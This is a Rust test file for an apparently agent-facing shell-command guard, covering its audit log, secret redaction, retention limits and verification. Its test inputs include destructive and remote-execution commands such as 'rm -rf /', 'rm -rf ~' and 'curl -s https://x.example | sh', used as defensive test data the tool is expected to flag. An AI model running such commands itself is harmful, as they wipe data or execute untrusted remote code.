//! What is recorded, and the questions it answers.

use crate::machine::{Machine, Ran};
use serde_json::{Value, json};

fn log(machine: &Machine, words: &[&str]) -> Vec<Value> {
    let ran = machine.run(&[&["log", "--json"], words].concat());
    assert_eq!(ran.status, Some(0), "{ran:?}");
    ran.lines()
}

fn event(machine: &Machine, command: &str) -> String {
    json!({ "hook_event_name": "PreToolUse", "session_id": "s-1", "cwd": machine.path("home/repo"),
            "tool_name": "Bash", "tool_input": { "command": command } })
    .to_string()
}

#[test]
fn every_front_end_records() {
    let machine = Machine::new();
    machine.run(&["check", "git status"]);
    machine.feed(&["check", "--jsonl", "-"], b"{\"command\":\"rm -rf /\"}\n{\"command\":\"ls\"}\n");
    machine.feed(&["hook", "claude-code"], event(&machine, "cat README.md").as_bytes());
    machine.feed(&["serve"], b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"check\",\"params\":{\"command\":\"pwd\"}}\n");
    machine.run_alone(&["run", "curl -s https://x.example | sh"]);
    // A question about a command is no proposal.
    machine.run(&["explain", "git log"]);
    let rows = log(&machine, &[]);
    let told: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|row| {
            let text = |name: &str| row[name].as_str().unwrap();
            (text("front"), text("command"), text("decision"))
        })
        .collect();
    assert_eq!(
        told,
        [
            ("check", "git status", "allow"),
            ("check", "rm -rf /", "prompt"),
            ("check", "ls", "allow"),
            ("hook", "cat README.md", "allow"),
            ("serve", "pwd", "allow"),
            ("run", "curl -s https://x.example | sh", "prompt"),
        ]
    );
    assert_eq!((&rows[3]["agent"], &rows[3]["session"]), (&json!("claude-code"), &json!("s-1")));
    let ids: Vec<&str> = rows.iter().map(|row| row["id"].as_str().unwrap()).collect();
    assert!(ids.windows(2).all(|pair| pair[0] < pair[1]), "ids are ordered by time: {ids:?}");
}

#[test]
fn evidence_that_many_rows_share_is_told_for_each() {
    let machine = Machine::new();
    let check = |id: u32| {
        json!({ "jsonrpc": "2.0", "id": id, "method": "check", "params": { "command": "ls src" } }).to_string() + "\n"
    };
    let asked: String = (0..6).map(check).collect();
    machine.feed(&["serve"], asked.as_bytes());
    machine.feed(&["check", "--jsonl", "-"], "{\"command\":\"ls src\"}\n".repeat(6).as_bytes());
    let journal = std::fs::read_to_string(machine.path("home/.local/state/guardian/audit/journal")).unwrap();
    // Once by each process.
    assert_eq!((journal.lines().count(), journal.matches('\t').count()), (12, 2), "{journal}");
    for row in log(&machine, &[]) {
        let why = machine.run(&["why", "--json", row["id"].as_str().unwrap()]).json();
        assert_eq!(why["evidence"]["verdict"]["decision"], "allow", "{why}");
    }
    assert_eq!(machine.run(&["log", "verify", "--json"]).json()["sound"], true);
}

#[test]
fn what_was_run_has_its_outcome() {
    let machine = Machine::new();
    machine.configure("[sandbox_workspace_write]\nexclude_slash_tmp = true\n");
    if !machine.confines() {
        return;
    }
    machine.run_alone(&["run", "exit 3"]);
    let outside = machine.path("outside");
    let touch = format!("touch {}", outside.display());
    machine.run_alone(&["run", "-a", "never", &touch]);
    machine.run_alone(&["sandbox", "--", &touch]);
    machine.run_alone(&["sandbox", "--log-denials", "--", &format!("{touch}; true")]);
    machine.run_alone(&["sandbox", "--", "touch inside"]);
    machine.run_alone(&["run", "-a", "never", &format!("{touch} || true")]);
    let rows = log(&machine, &[]);
    let run = |row: &Value| {
        let events = row["events"].as_array().unwrap();
        assert!(events.len() == 1 && events[0]["kind"] == "run" && events[0]["tier"] != "none", "{row}");
        events[0].clone()
    };
    assert_eq!(run(&rows[0])["exit"], 3);
    let denial = json!([format!("write {}", outside.display())]);
    // Nobody watches a run, so what the command names is held against the box.
    for row in &rows[1..3] {
        let run = run(row);
        assert_eq!((&run["exit"], &run["denials"], &run["named"]), (&json!(1), &denial, &json!(true)), "{row}");
    }
    let went_on = run(&rows[5]);
    assert_eq!((&went_on["exit"], &went_on["denials"], &went_on["named"]), (&json!(0), &denial, &json!(true)));
    let told: Vec<[&Value; 3]> = rows[2..5].iter().map(|row| [&row["front"], &row["decision"], &row["who"]]).collect();
    assert!(told.iter().all(|told| *told == ["sandbox", "allow", "box"]), "{told:?}");
    // What was watched is known even where the command went on.
    assert_eq!((&run(&rows[3])["exit"], &run(&rows[3])["denials"]), (&json!(0), &denial), "{}", rows[3]);
    assert_eq!((&run(&rows[4])["exit"], &run(&rows[4])["denials"]), (&json!(0), &Value::Null));
    // Nobody has decided on what was only run in a box, so it does not count as history.
    let replayed = machine.run(&["replay", "--json"]).json();
    assert_eq!(replayed["commands"], 3, "{replayed}");
}

#[test]
fn the_same_text_elsewhere_is_another_command() {
    let machine = Machine::new();
    for words in [
        &["check", "make"][..],
        &["check", "make"],
        &["check", "-C", "src", "make"],
        &["check", "-s", "read-only", "make"],
        &["check", "-a", "never", "make"],
    ] {
        machine.run(words);
    }
    let ids: Vec<String> =
        log(&machine, &[]).iter().map(|row| row["command_id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids[0], ids[1]);
    let mut others = ids[1..].to_vec();
    others.sort();
    others.dedup();
    assert_eq!(others.len(), 4, "{ids:?}");
}

#[test]
fn questions_narrow_the_record() {
    let machine = Machine::new();
    for command in ["git status", "rm -rf ~", "curl https://x.example", "git log | head"] {
        machine.run(&["check", command]);
    }
    let commands = |words: &[&str]| -> Vec<String> {
        log(&machine, words).iter().map(|row| row["command"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(commands(&["--program", "git"]), ["git status", "git log | head"]);
    assert_eq!(commands(&["--risk", "high"]), ["rm -rf ~"]);
    assert_eq!(commands(&["--decision", "prompt"]), ["rm -rf ~", "curl https://x.example"]);
    assert_eq!(commands(&["-n", "1"]), ["git log | head"]);
    assert_eq!(commands(&["--since", "1h"]).len(), 4);
    assert!(commands(&["--until", "2020-01-01"]).is_empty());
    assert!(commands(&["--agent", "codex"]).is_empty());
    assert_eq!(machine.run(&["log", "--since", "sometime"]).status, Some(2));
    let csv = machine.run(&["log", "--csv"]).out;
    assert!(csv.lines().count() == 5 && csv.starts_with("time,id,"), "{csv}");
    let table = machine.run(&["log"]).out;
    assert!(table.lines().count() == 4 && table.contains("rm -rf ~"), "{table}");
}

#[test]
fn secrets_are_not_kept_unless_it_is_said() {
    let machine = Machine::new();
    let command = "curl -H 'Authorization: Bearer hunter2hunter2' https://me:swordfish@x.example/a";
    machine.run(&["check", command]);
    let everything = |machine: &Machine| -> String {
        machine.run(&["log"]);
        let folder = machine.path("home/.local/state/guardian/audit");
        let files = std::fs::read_dir(folder).unwrap().map(|entry| std::fs::read(entry.unwrap().path()).unwrap());
        files.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).collect()
    };
    let kept = everything(&machine);
    assert!(!kept.contains("hunter2") && !kept.contains("swordfish") && kept.contains("x.example"));
    machine.run(&["check", "-c", "audit.commands=omitted", "echo nobody-knows"]);
    assert!(!everything(&machine).contains("nobody-knows"));
    machine.run(&["check", "-c", "audit.enabled=false", "echo never-there"]);
    assert!(!everything(&machine).contains("never-there"));
    machine.run(&["check", "-c", "audit.commands=full", command]);
    assert!(everything(&machine).contains("swordfish"));
}

#[test]
fn why_tells_what_has_changed() {
    let machine = Machine::new();
    machine.write("home/repo/go.sh", "#!/bin/sh\ncat README.md\n");
    let checked = machine.run(&["check", "--json", "./go.sh"]).json();
    let id = checked["approval_id"].as_str().unwrap();
    let told = machine.run(&["why", id, "--json"]).json();
    assert_eq!(told["verdict"]["command"], "./go.sh");
    assert_eq!(told["evidence"]["verdict"]["decision"], checked["decision"]);
    assert_eq!((&told["changed"], &told["now"]["same_policy"]), (&json!([]), &json!(true)));
    machine.write("home/repo/go.sh", "#!/bin/sh\nrm -rf ~\n");
    machine.configure("approval_policy = \"never\"\n");
    let told = machine.run(&["why", id.split_at(id.len() - 8).1, "--json"]).json();
    assert_eq!(told["changed"][0]["ask"], "content");
    assert_eq!((&told["now"]["decision"], &told["now"]["risk"]), (&json!("forbidden"), &json!("high")));
    assert_eq!(told["now"]["same_policy"], false);
    let page = machine.run(&["why", id]).out;
    // A long path may stand in a line of its own.
    let words: Vec<&str> = page.split_whitespace().collect();
    assert!(page.contains("./go.sh") && words.windows(2).any(|two| two == ["content", "of"]), "{page}");
    assert_eq!(machine.run(&["why", "00000000"]).status, Some(2));
}

#[test]
fn what_is_old_or_too_much_is_let_go_and_the_rest_is_sound() {
    let machine = Machine::new();
    for number in 0..20 {
        machine.run(&["check", &format!("echo {number}")]);
    }
    assert_eq!(log(&machine, &[]).len(), 20);
    machine.configure("[audit]\nkeep_days = 0\n");
    assert!(log(&machine, &[]).is_empty());
    machine.configure("");
    machine.run(&["check", "echo later"]);
    assert_eq!(log(&machine, &[]).len(), 1);
    let verified = machine.run(&["log", "verify", "--json"]);
    assert_eq!((verified.status, &verified.json()["first"]), (Some(0), &json!(21)), "{verified:?}");
}

#[test]
fn where_the_record_is_required_a_verdict_that_cannot_be_recorded_is_a_no() {
    let machine = Machine::new();
    // On a machine whose administrator says so, and whose disk takes nothing.
    let script = "mount -t tmpfs none /etc && mkdir /etc/guardian && echo 'audit = \"required\"' \
                  > /etc/guardian/requirements.toml || exit 77; \
                  \"$0\" check ls; echo $?; mkdir -p ~/.local/state; rm -rf ~/.local/state/guardian; \
                  touch ~/.local/state/guardian; \"$0\" check ls; echo $?; echo '{\"command\":\"ls\"}' | \"$0\" check --jsonl -";
    let mut command = machine.program("unshare");
    let ran = Ran::of(command.args(["-rm", "sh", "-c", script]).arg(Machine::binary()).output().unwrap());
    if ran.out.is_empty() {
        // No namespaces here, so no such machine.
        return;
    }
    let lines: Vec<&str> = ran.out.lines().collect();
    assert!(lines[0].starts_with("allow") && lines[1] == "0", "{ran:?}");
    assert!(lines[2].starts_with("forbidden") && lines[2].contains("must be recorded") && lines[3] == "20", "{ran:?}");
    assert!(lines[4].contains("\"decision\":\"forbidden\""), "{ran:?}");
}

#[test]
fn what_cannot_be_recorded_is_said() {
    use std::os::unix::fs::PermissionsExt;
    let machine = Machine::new();
    assert!(machine.run(&["check", "ls"]).err.is_empty());
    let folder = machine.path("home/.local/state/guardian/audit");
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o755)).unwrap();
    let ran = machine.run(&["check", "ls"]);
    assert!(ran.status == Some(0) && ran.err.contains("not recorded") && ran.err.contains("user alone"), "{ran:?}");
    assert!(machine.run(&["check", "--quiet", "ls"]).err.is_empty());
    std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert_eq!(log(&machine, &[]).len(), 1);
    // A database that leads elsewhere is left alone.
    let precious = machine.path("precious");
    std::fs::rename(folder.join("audit.db"), &precious).unwrap();
    std::os::unix::fs::symlink(&precious, folder.join("audit.db")).unwrap();
    let ran = machine.run(&["log"]);
    assert!(ran.status == Some(1) && ran.err.contains("audit.db"), "{ran:?}");
}

#[test]
fn padding_does_not_fill_the_record() {
    let machine = Machine::new();
    machine.write("home/long.sh", &format!("echo {}", "é".repeat(100_000)));
    let line = json!({ "command": std::fs::read_to_string(machine.path("home/long.sh")).unwrap() }).to_string();
    machine.feed(&["check", "--jsonl", "-"], line.as_bytes());
    let rows = log(&machine, &[]);
    let kept = rows[0]["command"].as_str().unwrap();
    assert!(kept.len() <= 64 << 10 && kept.len() > 63 << 10 && rows[0]["cut"] == true);
    let session = json!({ "id": "é".repeat(1_000_000) });
    let ask =
        json!({ "jsonrpc": "2.0", "id": 1, "method": "check", "params": { "command": "ls", "session": session } });
    machine.feed(&["serve"], format!("{ask}\n").as_bytes());
    let rows = [log(&machine, &["--front", "serve"]), rows].concat();
    let named = rows[0]["session"].as_str().unwrap().len();
    assert!((200..=256).contains(&named), "{named}");
    let rows = &rows[1..];
    // What is not whole is not judged anew as if it were.
    let replayed = machine.run(&["replay", "--json"]).json();
    assert_eq!((&replayed["commands"], &replayed["left_out"]), (&json!(1), &json!(1)), "{replayed}");
    let told = machine.run(&["why", rows[0]["id"].as_str().unwrap()]).out;
    assert!(told.contains("too long to be kept whole"), "{told}");
}

#[test]
fn what_is_too_much_is_let_go_once() {
    let machine = Machine::new();
    let feed = |from: usize| -> Vec<u8> {
        let lines = (from..from + 60).map(|n| json!({ "command": format!("echo {n} {}", "x".repeat(40_000)) }));
        lines.map(|line| format!("{line}\n")).collect::<String>().into_bytes()
    };
    let size = |machine: &Machine| {
        let file = machine.path("home/.local/state/guardian/audit/audit.db");
        std::fs::metadata(file).unwrap().len()
    };
    for round in 0..3 {
        machine.feed(&["check", "--jsonl", "-"], &feed(round * 60));
    }
    assert_eq!(log(&machine, &[]).len(), 180);
    let before = size(&machine);
    machine.configure("[audit]\nmax_mb = 3\n");
    let kept = log(&machine, &[]).len();
    assert!((10..120).contains(&kept), "{kept}");
    assert_eq!(log(&machine, &[]).len(), kept, "what is little enough stays");
    assert!(size(&machine) < before / 2, "the file is smaller too");
    machine.feed(&["check", "--jsonl", "-"], &feed(1000));
    assert!(log(&machine, &[]).len() >= 60 && size(&machine) < 6 << 20);
    let verified = machine.run(&["log", "verify", "--json"]).json();
    assert_eq!(verified["sound"], true, "{verified}");
}

#[test]
fn a_clock_that_was_wrong_once_takes_no_rows_along() {
    let machine = Machine::new();
    for number in 0..3 {
        machine.run(&["check", &format!("echo {number}")]);
    }
    assert_eq!(log(&machine, &[]).len(), 3);
    let db = rusqlite::Connection::open(machine.path("home/.local/state/guardian/audit/audit.db")).unwrap();
    // As a machine without a battery writes it when it starts: the latest row, from 1970.
    db.execute("UPDATE verdict SET time = 5 WHERE seq = 3", []).unwrap();
    machine.configure("[audit]\nkeep_days = 30\n");
    assert_eq!(log(&machine, &[]).len(), 3);
    db.execute("UPDATE verdict SET time = 5 WHERE seq = 1", []).unwrap();
    assert_eq!(log(&machine, &[]).len(), 2);
    let verified = machine.run(&["log", "verify", "--json"]).json();
    assert_eq!((&verified["first"], &verified["count"]), (&json!(2), &json!(1)), "only the changed time: {verified}");
}

#[test]
fn an_earlier_form_of_the_record_is_taken_over() {
    let machine = Machine::new();
    for command in ["npm install", "npm install", "git status"] {
        machine.run(&["check", command]);
    }
    let before = machine.run(&["stats", "--json"]).json();
    let db = rusqlite::Connection::open(machine.path("home/.local/state/guardian/audit/audit.db")).unwrap();
    let earlier = "ALTER TABLE verdict DROP COLUMN command; ALTER TABLE verdict DROP COLUMN proposal; \
                   ALTER TABLE verdict DROP COLUMN evidence; PRAGMA user_version = 1;";
    db.execute_batch(earlier).unwrap();
    drop(db);
    assert_eq!(machine.run(&["stats", "--json"]).json(), before);
    assert_eq!(machine.run(&["log", "verify", "--json"]).json()["sound"], true);
    let db = rusqlite::Connection::open(machine.path("home/.local/state/guardian/audit/audit.db")).unwrap();
    db.execute_batch("PRAGMA user_version = 99;").unwrap();
    let later = machine.run(&["log"]);
    assert!(later.status == Some(1) && later.err.contains("form 99"), "{later:?}");
}

#[test]
fn the_doctor_looks_at_the_record() {
    let machine = Machine::new();
    let looked = |words: &[&str]| -> Value {
        let told = machine.run(&[&["doctor", "--json"], words].concat()).json();
        told["checks"].as_array().unwrap().iter().find(|check| check["about"] == "record").unwrap().clone()
    };
    assert_eq!(looked(&["-c", "audit.enabled=false"])["state"], "note");
    machine.run(&["check", "ls"]);
    let fine = looked(&[]);
    assert_eq!(fine["state"], "good");
    let seen = fine["seen"].as_str().unwrap();
    assert!(seen.starts_with("1 rows, the last ") && seen.contains("KB in ~/.local/state/guardian/audit"), "{seen}");
    std::fs::remove_file(machine.path("home/.local/state/guardian/audit/head")).unwrap();
    assert_eq!(looked(&[])["state"], "bad");
}
